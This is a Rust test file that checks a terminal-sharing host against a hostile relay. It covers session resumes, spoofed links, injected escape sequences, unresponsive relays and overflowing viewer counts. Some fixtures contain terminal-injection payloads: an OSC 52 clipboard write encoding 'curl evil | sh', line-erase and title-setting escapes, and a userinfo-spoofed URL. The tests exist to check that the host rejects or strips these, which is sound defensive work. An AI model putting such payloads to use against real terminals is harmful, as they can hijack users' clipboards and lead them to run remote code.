//! The host against a hostile relay ([`HostileRelay`]): what the relay says reaches the
//! user's terminal without control sequences, links that are not the session's are never
//! shown, a resume into another session ends the share (it could replay a collaborator's
//! input), and neither a silent relay nor absurd counts hold up or kill the host loop.

use protocol::{Links, Mode, RelayToHost, Transport};

use super::*;
use crate::testing::hostile_relay::{HostLink, HostileRelay};

const A: &str = "0123456789abcdef0123456789abcdef";
const B: &str = "fedcba9876543210fedcba9876543210";

/// A host running `sh` that shares through `relay` over WebSocket.
fn host_through(relay: &HostileRelay) -> SpawnedHost {
    let args = HostArgs {
        relay: Some(relay.base.clone()),
        transport: HostTransportChoice::Ws,
        command: vec!["sh".into()],
        ..HostArgs::default()
    };
    spawn_host(args, None)
}

/// `/share` (with `flags`) typed, welcomed into session A; what the terminal showed.
async fn shared(
    relay: &mut HostileRelay,
    terminal: &mut Terminal,
    keys: &mpsc::Sender<Vec<u8>>,
    flags: &str,
) -> (HostLink, String) {
    type_keys(keys, &format!("/share{flags}\r")).await;
    let (mut link, hello) = within("the host's link", relay.next_link()).await;
    assert!(hello.resume.is_none());
    link.send(&relay.welcome(A, false)).await;
    (link, terminal.until("/unshare to stop").await)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resume_into_another_session_ends_the_share_before_input_can_be_replayed() {
    let mut relay = HostileRelay::start().await;
    let (mut terminal, keys, session) = host_through(&relay);
    let (mut link, shown) = shared(&mut relay, &mut terminal, &keys, " --collab").await;
    let collab = ShareUrl::parse(&link_after(&shown, "collab link: ")).expect("a link");
    let mut collaborator = InputSealer::new(&collab.keys.write.expect("a write key"), A);
    let typed = RelayToHost::ViewerInput {
        viewer: 1,
        mode: Mode::Collab,
        data: collaborator.seal(b"echo typed-$((3+4))\r"),
    };
    link.send(&typed).await;
    terminal.until("typed-7").await;

    // A fresh session's input opener would take `typed` again once back in A.
    link.cut().await;
    let (mut link, hello) = within("the resuming link", relay.next_link()).await;
    assert!(hello.resume.is_some(), "a resume");
    link.send(&relay.welcome(B, true)).await;
    let told = terminal.until("if it happens again)").await;
    assert!(told.contains("sharing ended"), "{told:?}");
    assert!(
        told.contains("resumed this share in another session"),
        "{told:?}"
    );
    assert!(!told.contains("reconnected to the relay"), "{told:?}");
    type_keys(&keys, "exit\r").await;
    let (code, _) = within("the host's exit", session).await.unwrap();
    assert_eq!(code, 0);
}

/// `/share` typed, then a welcome whose links `change` made: what the terminal was told
/// up to `until`.
async fn told_of_links(change: impl FnOnce(&HostileRelay, &mut Links), until: &str) -> String {
    let mut relay = HostileRelay::start().await;
    let (mut terminal, keys, _session) = host_through(&relay);
    type_keys(&keys, "/share\r").await;
    let (mut link, _) = within("the host's link", relay.next_link()).await;
    let mut welcome = relay.welcome(A, false);
    if let RelayToHost::Welcome(welcome) = &mut welcome {
        change(&relay, &mut welcome.links);
    }
    link.send(&welcome).await;
    terminal.until(until).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_with_control_sequences_end_the_share_unshown() {
    let told = told_of_links(
        |relay, links| {
            // OSC 52 sets the clipboard in many terminals; the line erase hides the real link.
            *links = relay.links(A, "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b[2K\r");
        },
        "or blanks",
    )
    .await;
    assert!(told.contains("sharing ended"), "{told:?}");
    assert!(told.contains("read-only link"), "{told:?}");
    assert!(
        !told.contains("\x1b]52") && !told.contains("#aaa"),
        "{told:?}"
    );
}

/// A link that shows the relay's name where a user name goes, and leads elsewhere
/// (`http://relay.example@HOST/...`), ends the share unshown.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_that_name_a_user_end_the_share_unshown() {
    let told = told_of_links(
        |_, links| links.read = links.read.replacen("http://", "http://relay.example@", 1),
        "before the relay's host",
    )
    .await;
    assert!(told.contains("sharing ended"), "{told:?}");
    assert!(!told.contains("relay.example@"), "{told:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_relays_close_reason_reaches_the_terminal_without_control_sequences() {
    let mut relay = HostileRelay::start().await;
    let (mut terminal, keys, _session) = host_through(&relay);
    let (link, _) = shared(&mut relay, &mut terminal, &keys, "").await;
    link.close(
        protocol::close::BUSY,
        "full\x1b]0;pwned\x07\x1b[2Kshare: fake\n",
    )
    .await;
    let told = terminal.until("reconnecting").await;
    assert!(told.contains("the relay is busy: full"), "{told:?}");
    assert!(
        !told.contains("pwned") && !told.contains("\x1b[2K"),
        "{told:?}"
    );
    assert!(!told.contains("fake\n"), "{told:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unshare_does_not_wait_on_the_relay() {
    let mut relay = HostileRelay::start().await;
    let (mut terminal, keys, _session) = host_through(&relay);
    let (link, _) = shared(&mut relay, &mut terminal, &keys, "").await;
    // The relay never answers the goodbye: the host waits for it, up to FAREWELL, then
    // drops the connection. Meanwhile the terminal goes on.
    type_keys(&keys, "/unshare\r").await;
    type_keys(&keys, "echo after-$((1+1))\r").await;
    terminal.until("after-2").await;
    assert!(
        !link.dropped_by_host(),
        "the terminal waited for the host to give up on the relay"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn viewer_counts_past_u32_do_not_kill_the_host() {
    let mut relay = HostileRelay::start().await;
    let (mut terminal, keys, session) = host_through(&relay);
    let (mut link, _) = shared(&mut relay, &mut terminal, &keys, "").await;
    let joined = RelayToHost::ViewerJoined {
        viewer: 1,
        mode: Mode::Read,
        transport: Transport::WebSocket,
        viewers: protocol::ViewerCount {
            read: u32::MAX,
            collab: 1,
        },
    };
    link.send(&joined).await;
    terminal.until(&format!("({} watching)", u32::MAX)).await;
    type_keys(&keys, "echo alive-$((1+1))\r").await;
    terminal.until("alive-2").await;
    assert!(!session.is_finished());
}
